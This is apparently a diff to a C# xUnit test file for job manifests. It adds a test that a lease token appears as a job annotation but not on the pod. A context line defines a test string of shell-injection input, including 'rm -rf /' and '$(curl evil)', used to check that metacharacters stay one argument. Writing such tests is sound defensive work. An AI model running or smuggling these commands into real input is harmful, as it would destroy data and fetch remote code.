@@ -118,6 +118,16 @@ public sealed class JobManifestTests
     }
 
     [Fact]
+    public void The_lease_token_is_an_annotation_only_when_the_attempt_has_one()
+    {
+        var lease = Guid.NewGuid();
+        Assert.Equal(lease.ToString("D"), Build(Spec() with { LeaseToken = lease }).Metadata.Annotations["jobplane.dev/lease-token"]);
+        Assert.Null(Build(Spec()).Metadata.Annotations);
+        // Not on the pod: nothing of the lease reaches the job's containers.
+        Assert.Null(Build(Spec() with { LeaseToken = lease }).Spec.Template.Metadata.Annotations);
+    }
+
+    [Fact]
     public void A_command_with_shell_metacharacters_stays_one_argument()
     {
         const string hostile = "a; rm -rf / && $(curl evil) | `id` > /tmp/x \"quoted\" 'single'\nnext";
